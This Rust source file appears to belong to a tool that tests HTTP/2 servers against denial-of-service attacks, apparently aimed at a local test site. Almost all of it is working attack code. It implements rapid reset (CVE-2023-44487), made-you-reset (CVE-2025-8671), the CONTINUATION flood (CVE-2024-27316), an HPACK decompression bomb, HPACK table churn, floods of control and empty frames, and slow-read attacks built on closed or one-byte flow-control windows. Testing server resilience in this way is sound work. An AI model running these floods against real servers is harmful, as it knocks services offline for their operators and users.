//! Attacks over HTTP/2 in clear, by prior knowledge, frame by frame.

use std::io;
use std::time::Duration;

use tokio::time::{sleep, timeout};

use crate::attack::{Attack, AttackConnection, Listener};
use crate::site::{SMALL, big_page};
use support::h2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, frame,
};

const PRIORITY: u8 = 2;
const MAX_WINDOW: u32 = 0x7fff_ffff;
const HEADER_TABLE_SIZE: u16 = 1;
const INITIAL_WINDOW_SIZE: u16 = 4;
/// The default of `SETTINGS_MAX_FRAME_SIZE`.
const MAX_FRAME_BYTES: usize = 16 * 1024;
/// The number of frames in one write.
const FRAMES_PER_BATCH: u64 = 200;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::unlimited(Listener::Http2, "h2-rapid-reset", "rapid reset (CVE-2023-44487)", 8, |s| {
        Box::pin(rapid_reset(s))
    }),
    Attack::unlimited(Listener::Http2, "h2-made-you-reset", "made you reset (CVE-2025-8671)", 8, |s| {
        Box::pin(made_you_reset(s))
    }),
    Attack::unlimited(Listener::Http2, "h2-continuation", "CONTINUATION without end (CVE-2024-27316)", 8, |s| {
        Box::pin(continuation(s))
    }),
    Attack::unlimited(Listener::Http2, "h2-hpack-bomb", "HPACK: 16 KB that say 32 MB", 8, |s| Box::pin(hpack_bomb(s))),
    Attack::unlimited(Listener::Http2, "h2-hpack-churn", "HPACK: tables that change all the time", 8, |s| {
        Box::pin(hpack_churn(s))
    }),
    Attack::unlimited(Listener::Http2, "h2-settings", "SETTINGS", 8, |s| {
        Box::pin(send_control_frames(s, settings_frame))
    }),
    Attack::unlimited(Listener::Http2, "h2-ping", "PING", 8, |s| {
        Box::pin(send_control_frames(s, |_| frame(PING, 0, 0, &[7; 8])))
    }),
    Attack::unlimited(Listener::Http2, "h2-priority", "PRIORITY", 8, |s| {
        Box::pin(send_control_frames(s, priority_frame))
    }),
    Attack::unlimited(Listener::Http2, "h2-goaway", "GOAWAY", 8, |s| {
        Box::pin(send_control_frames(s, |_| frame(GOAWAY, 0, 0, &[0; 8])))
    }),
    Attack::unlimited(Listener::Http2, "h2-window-updates", "WINDOW_UPDATE", 8, |s| {
        Box::pin(send_control_frames(s, window_frame))
    }),
    Attack::unlimited(Listener::Http2, "h2-empty-data", "empty DATA", 8, |s| Box::pin(empty_data(s))),
    Attack::unlimited(Listener::Http2, "h2-empty-headers", "empty HEADERS and CONTINUATION", 8, |s| {
        Box::pin(empty_headers(s))
    }),
    Attack::unlimited(Listener::Http2, "h2-pages", "large pages, `bytes=0-0`, 100 streams, one connection", 1, |s| {
        Box::pin(requests(s, "GET"))
    }),
    Attack::unlimited(Listener::Http2, "h2-heads", "HEADs, 100 streams, one connection", 1, |s| {
        Box::pin(requests(s, "HEAD"))
    }),
    Attack::unlimited(
        Listener::Http2,
        "h2-closed-windows",
        "identity pages, closed windows, 100 streams each",
        100,
        |s| Box::pin(closed_windows(s)),
    ),
    Attack::unlimited(Listener::Http2, "h2-window-drip", "windows that open by one byte, 100 streams each", 50, |s| {
        Box::pin(window_drip(s))
    }),
];

/// The payload of a SETTINGS frame.
fn settings(values: &[(u16, u32)]) -> Vec<u8> {
    values.iter().flat_map(|(name, value)| [&name.to_be_bytes()[..], &value.to_be_bytes()[..]].concat()).collect()
}

/// Sends the connection preface, with this initial window for streams and the maximum window for the connection.
async fn send_preface(connection: &mut AttackConnection, window: u32) -> io::Result<()> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &settings(&[(INITIAL_WINDOW_SIZE, window), (HEADER_TABLE_SIZE, 4096)])));
    bytes.extend(frame(SETTINGS, ACK, 0, &[]));
    bytes.extend(frame(WINDOW_UPDATE, 0, 0, &(MAX_WINDOW - 65_535).to_be_bytes()));
    connection.send(&bytes).await
}

fn request_block(method: &str, path: &str, extra_fields: &[(&str, &str)]) -> Vec<u8> {
    let fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost")];
    block(&[&fields[..], extra_fields].concat())
}

/// The id of the client's stream number `n`, from 1.
fn stream_id(n: u64) -> u32 {
    (n as u32 * 2 + 1) & MAX_WINDOW
}

/// Sends batches of what `fill` puts into the buffer for each number from 0.
async fn send_batches(connection: AttackConnection, mut fill: impl FnMut(u64, &mut Vec<u8>)) -> io::Result<()> {
    let mut n = 0;
    connection
        .flood(|buffer| {
            for _ in 0..FRAMES_PER_BATCH {
                fill(n, buffer);
                n += 1;
            }
            FRAMES_PER_BATCH
        })
        .await
}

async fn rapid_reset(mut connection: AttackConnection) -> io::Result<()> {
    send_preface(&mut connection, MAX_WINDOW).await?;
    let head = request_block("GET", SMALL, &[]);
    send_batches(connection, |n, buffer| {
        buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &head));
        buffer.extend(frame(RST_STREAM, 0, stream_id(n), &8u32.to_be_bytes()));
    })
    .await
}

/// Each request is followed by an invalid frame, so that the server has to reset the stream.
async fn made_you_reset(mut connection: AttackConnection) -> io::Result<()> {
    send_preface(&mut connection, MAX_WINDOW).await?;
    let head = request_block("GET", &big_page(0), &[]);
    send_batches(connection, |n, buffer| {
        let stream = stream_id(n);
        buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
        buffer.extend(match n % 3 {
            0 => frame(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
            1 => frame(WINDOW_UPDATE, 0, stream, &MAX_WINDOW.to_be_bytes()),
            _ => frame(DATA, END_STREAM, stream, b"x"),
        });
    })
    .await
}

async fn continuation(mut connection: AttackConnection) -> io::Result<()> {
    send_preface(&mut connection, MAX_WINDOW).await?;
    connection.send(&frame(HEADERS, END_STREAM, 1, &request_block("GET", SMALL, &[]))).await?;
    let fields = block(&vec![("x-field", "0123456789012345678901234567890123456789"); 330]);
    let continuation_frame = frame(CONTINUATION, 0, 1, &fields[..fields.len().min(MAX_FRAME_BYTES)]);
    connection
        .flood(|buffer| {
            buffer.extend_from_slice(&continuation_frame);
            1
        })
        .await
}

/// A literal field with incremental indexing: it is added to the dynamic table.
fn field_with_indexing(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = block(&[(name, value)]);
    bytes[0] = 0x40;
    bytes
}

/// The newest entry of the dynamic table.
const NEWEST_DYNAMIC_ENTRY: u8 = 0x80 | 62;

async fn hpack_bomb(mut connection: AttackConnection) -> io::Result<()> {
    send_preface(&mut connection, MAX_WINDOW).await?;
    let request = request_block("GET", SMALL, &[]);
    let first = [&request[..], &field_with_indexing("x-bomb", &"b".repeat(3900))].concat();
    connection.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &first)).await?;
    let bomb = [&request[..], &vec![NEWEST_DYNAMIC_ENTRY; MAX_FRAME_BYTES - request.len()]].concat();
    let mut n = 0;
    connection
        .flood(|buffer| {
            n += 1;
            buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &bomb));
            1
        })
        .await
}

async fn hpack_churn(mut connection: AttackConnection) -> io::Result<()> {
    send_preface(&mut connection, MAX_WINDOW).await?;
    // Two size updates: the dynamic table is emptied, then gets its former size.
    let table_size_updates = [0x20, 0x3f, 0xe1, 0x1f];
    let request = request_block("HEAD", SMALL, &[]);
    let mut n = 0;
    connection
        .flood(|buffer| {
            n += 1;
            let mut fields = [&table_size_updates[..], &request].concat();
            for field in 0..40 {
                fields
                    .extend(field_with_indexing(&format!("x-{n}-{field}"), "0123456789012345678901234567890123456789"));
            }
            buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &fields));
            1
        })
        .await
}

fn settings_frame(n: u64) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &settings(&[(INITIAL_WINDOW_SIZE, 65_535 + n as u32 % 2)]))
}

fn priority_frame(n: u64) -> Vec<u8> {
    frame(PRIORITY, 0, stream_id(n % 1_000_000), &[&stream_id((n + 7) % 1000).to_be_bytes()[..], &[n as u8]].concat())
}

fn window_frame(_: u64) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())
}

/// Sends control frames without requests.
async fn send_control_frames(mut connection: AttackConnection, fill: fn(u64) -> Vec<u8>) -> io::Result<()> {
    // The connection's window must stay below its maximum while it is increased.
    connection.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    connection.send(&frame(SETTINGS, 0, 0, &[])).await?;
    send_batches(connection, |n, buffer| buffer.extend(fill(n))).await
}

async fn empty_data(mut connection: AttackConnection) -> io::Result<()> {
    send_preface(&mut connection, MAX_WINDOW).await?;
    connection.send(&frame(HEADERS, END_HEADERS, 1, &request_block("POST", "/", &[]))).await?;
    send_batches(connection, |_, buffer| buffer.extend(frame(DATA, 0, 1, &[]))).await
}

async fn empty_headers(mut connection: AttackConnection) -> io::Result<()> {
    send_preface(&mut connection, MAX_WINDOW).await?;
    connection.send(&frame(HEADERS, 0, 1, &[])).await?;
    send_batches(connection, |_, buffer| buffer.extend(frame(CONTINUATION, 0, 1, &[]))).await
}

/// The number of concurrent streams of a connection.
const STREAMS_PER_CONNECTION: u64 = 100;

/// Keeps 100 requests in progress: each response that ends is replaced by a new request.
async fn requests(mut connection: AttackConnection, method: &'static str) -> io::Result<()> {
    send_preface(&mut connection, MAX_WINDOW).await?;
    let (mut n, mut free_streams, mut frames) = (0, STREAMS_PER_CONNECTION, Frames::default());
    loop {
        let mut bytes = Vec::new();
        for _ in 0..free_streams {
            let path = if method == "HEAD" { SMALL.to_owned() } else { big_page(n as usize) };
            let range = [("range", "bytes=0-0")];
            let fields: &[(&str, &str)] = if method == "HEAD" { &[] } else { &range };
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &request_block(method, &path, fields)));
            n += 1;
        }
        connection.shared.start_units(free_streams).await;
        connection.send(&bytes).await?;
        free_streams = 0;
        while free_streams == 0 {
            free_streams = frames.count_ended_streams(&connection.receive(64 * 1024).await?);
        }
    }
}

/// A parser for frames that arrive in pieces.
#[derive(Debug, Default)]
struct Frames {
    buffer: Vec<u8>,
}

impl Frames {
    /// The number of streams that end in these bytes.
    fn count_ended_streams(&mut self, bytes: &[u8]) -> u64 {
        self.buffer.extend_from_slice(bytes);
        let (mut offset, mut ended_streams) = (0, 0);
        while let Some(head) = self.buffer.get(offset..offset + 9) {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            if self.buffer.len() < offset + 9 + length {
                break;
            }
            let (kind, flags) = (head[3], head[4]);
            let is_end = flags & END_STREAM != 0 && (kind == DATA || kind == HEADERS);
            ended_streams += u64::from(is_end || kind == RST_STREAM);
            offset += 9 + length;
        }
        self.buffer.drain(..offset);
        ended_streams
    }
}

/// Sends 100 requests for large pages, with stream windows of 0, so that the server may send no body.
async fn request_pages(connection: &mut AttackConnection) -> io::Result<()> {
    send_preface(connection, 0).await?;
    let from = connection.number as u64 * STREAMS_PER_CONNECTION;
    for n in 0..STREAMS_PER_CONNECTION {
        let head = request_block("GET", &big_page((from + n) as usize), &[]);
        connection.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &head)).await?;
    }
    Ok(())
}

async fn closed_windows(mut connection: AttackConnection) -> io::Result<()> {
    request_pages(&mut connection).await?;
    connection.drain().await
}

async fn window_drip(mut connection: AttackConnection) -> io::Result<()> {
    request_pages(&mut connection).await?;
    let mut updates = Vec::new();
    for n in 0..STREAMS_PER_CONNECTION {
        updates.extend(frame(WINDOW_UPDATE, 0, stream_id(n), &1u32.to_be_bytes()));
    }
    loop {
        connection.send(&updates).await?;
        // Reads the received bytes, so that the server can send more.
        while let Ok(read) = timeout(Duration::from_millis(1), connection.receive(64 * 1024)).await {
            read?;
        }
        sleep(Duration::from_millis(50)).await;
    }
}
